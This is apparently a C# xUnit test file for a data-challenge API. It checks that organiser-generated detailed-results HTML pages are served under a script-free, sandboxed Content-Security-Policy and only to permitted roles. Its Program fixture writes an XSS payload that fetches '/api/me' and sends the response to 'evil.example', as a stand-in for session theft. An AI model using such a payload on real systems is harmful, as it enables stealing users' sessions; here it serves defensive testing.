using System.Net;
using System.Net.Http.Json;
using DataChallenge.Api.Features.SubmissionResults;
using DataChallenge.Hosting.ObjectStorage;
using DataChallenge.Testing;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;

namespace DataChallenge.Api.Tests.SubmissionResults;

/// <summary>
/// An organiser program's detailed_results.html, written in bubblewrap with a script inside, reaches the browser only
/// under a policy that runs no script: organisers read every split, the submitting team its public one when the phase
/// allows it, everyone else nothing.
/// </summary>
public sealed class DetailedResultsTests : IAsyncLifetime
{
    private const string Settings = """
        {"command": "python3 score.py $input $output", "runtime": "python", "metrics": ["accuracy"],
         "primary_metric": "accuracy", "higher_is_better": true, "split_column": "Usage"}
        """;

    // Each split's page names its split and carries a script that would steal the viewer's session if it ran.
    private const string Program = """
        import json, os, sys
        out = sys.argv[2]
        json.dump({"accuracy": 0.5}, open(os.path.join(out, "scores.json"), "w"))
        rows = sum(1 for _ in open(os.path.join(sys.argv[1], "ref", "labels.csv"))) - 1
        open(os.path.join(out, "detailed_results.html"), "w").write(
            "<p>%d rows</p><script>fetch('/api/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>" % rows)
        """;

    private readonly ServerFactory _server = new();
    private ApiSession _organiser = null!, _team = null!, _otherTeam = null!, _spectator = null!;
    private Guid _phaseId;

    public async ValueTask InitializeAsync()
    {
        _server.RunProgramsInBubblewrap();
        _organiser = await ApiSession.RegisterAsync(_server.CreateClient());
        var slug = await _organiser.CreateChallengeAsync();
        _phaseId = await _organiser.CreatePhaseAsync(slug, SampleFiles.BinaryConfig, maxFileBytes: 10_000);
        await _organiser.UploadLabelsAsync(_phaseId, SampleFiles.Labels());
        _team = await ApiSession.RegisterAsync(_server.CreateClient());
        await _team.JoinAsync(slug, "Submitters");
        _otherTeam = await ApiSession.RegisterAsync(_server.CreateClient());
        await _otherTeam.JoinAsync(slug, "Others");
        _spectator = await ApiSession.RegisterAsync(_server.CreateClient());
    }

    public ValueTask DisposeAsync() => _server.DisposeAsync();

    [Fact]
    public async Task DetailedResults_AreServedWithAScriptFreePolicy_WhenAnOrganiserOpensThem()
    {
        var id = await ScoredAsync(Program);

        foreach (var (split, rows) in new[] { ("public", 40), ("private", 20) })
        {
            var response = await _organiser.Client.GetAsync(Url(id, split), TestContext.Current.CancellationToken);

            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            Assert.StartsWith($"<p>{rows} rows</p><script>", await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
            var policy = string.Join(";", response.Headers.GetValues("Content-Security-Policy"));
            Assert.Equal(SubmissionResultsEndpoints.DetailedResultsPolicy, policy);
            Assert.Contains("default-src 'none'", policy);
            Assert.DoesNotContain("script-src", policy);
            Assert.Contains("sandbox", policy.Split(';').Select(d => d.Trim()));
            Assert.Equal("nosniff", Assert.Single(response.Headers.GetValues("X-Content-Type-Options")));
            Assert.Equal("text/html; charset=utf-8", response.Content.Headers.ContentType?.ToString());
            Assert.True(response.Headers.CacheControl is { Private: true, NoStore: true }, $"Cache-Control: {response.Headers.CacheControl}");
        }
    }

    [Fact]
    public async Task DetailedResults_AreNotFound_ForTheSubmittingTeam_WhenThePhaseDoesNotShowThem()
    {
        var id = await ScoredAsync(Program);

        await AssertNotFoundAsync(_team, Url(id, "public"));
    }

    [Fact]
    public async Task DetailedResults_ShowTheTeamItsPublicSplitOnly_WhenThePhaseShowsThem()
    {
        var id = await ScoredAsync(Program);
        await ShowOwnAsync();

        var response = await _team.Client.GetAsync(Url(id, "public"), TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(SubmissionResultsEndpoints.DetailedResultsPolicy, string.Join(";", response.Headers.GetValues("Content-Security-Policy")));
        Assert.StartsWith("<p>40 rows</p>", await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken));
        await AssertNotFoundAsync(_team, Url(id, "private"));
    }

    [Fact]
    public async Task DetailedResults_AreNotFound_ForAnotherTeamOrASpectator_WhenThePhaseShowsThem()
    {
        var id = await ScoredAsync(Program);
        await ShowOwnAsync();

        await AssertNotFoundAsync(_otherTeam, Url(id, "public"));
        await AssertNotFoundAsync(_spectator, Url(id, "public"));
    }

    [Fact]
    public async Task DetailedResults_AreNotCopiedForTheBrowser_WhenLargerThanTheCap()
    {
        // One byte over the cap on every split; the log the organisers read says why there is no page.
        var oversized = Program.Replace("% rows)", $"% rows + 'x' * {DetailedResultsKeys.MaxBytes})", StringComparison.Ordinal);
        var id = await ScoredAsync(oversized);

        await AssertNotFoundAsync(_organiser, Url(id, "public"));
        var log = await ReadHiddenAsync($"phases/{_phaseId:N}/program/results/{id:N}/a1/public/log.txt");
        Assert.Contains("not shown there", log, StringComparison.Ordinal);
        Assert.False(await SubmissionsStoreHoldsAsync(DetailedResultsKeys.For(_phaseId, id, 1, "public")));
    }

    private static string Url(Guid id, string split) => $"/api/submissions/{id}/detailed-results/{split}";

    private async Task<Guid> ScoredAsync(string program)
    {
        Bubblewrap.Require();
        await ApiSession.EnsureAsync(await ProgramArchives.UploadAsync(_organiser.Client, _phaseId, Settings, ProgramArchives.Zip(("score.py", program))), "program");
        var id = await _team.SubmitAsync(_phaseId, SampleFiles.Predictions());
        var outcome = await _team.WaitForOutcomeAsync(id, TimeSpan.FromSeconds(90));
        Assert.Equal("Scored", outcome.GetProperty("status").GetString());
        return id;
    }

    private async Task ShowOwnAsync()
        => await ApiSession.EnsureAsync(await _organiser.Client.PutAsJsonAsync($"/api/phases/{_phaseId}/result-settings",
            new { showOwnDetailedResults = true }, TestContext.Current.CancellationToken), "result settings");

    private static async Task AssertNotFoundAsync(ApiSession caller, string url)
    {
        var response = await caller.Client.GetAsync(url, TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.NotFound, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
    }

    private async Task<string> ReadHiddenAsync(string key)
    {
        var store = _server.Services.GetRequiredService<IObjectStore>();
        await using var stream = await store.OpenReadAsync(Buckets.HiddenLabels, key, TestContext.Current.CancellationToken);
        using var reader = new StreamReader(stream);
        return await reader.ReadToEndAsync(TestContext.Current.CancellationToken);
    }

    private Task<bool> SubmissionsStoreHoldsAsync(string key)
        => _server.Services.GetRequiredService<IObjectStore>().ExistsAsync(Buckets.Submissions, key, TestContext.Current.CancellationToken);

    private BucketNames Buckets => _server.Services.GetRequiredService<IOptions<ObjectStoreOptions>>().Value.Buckets;
}
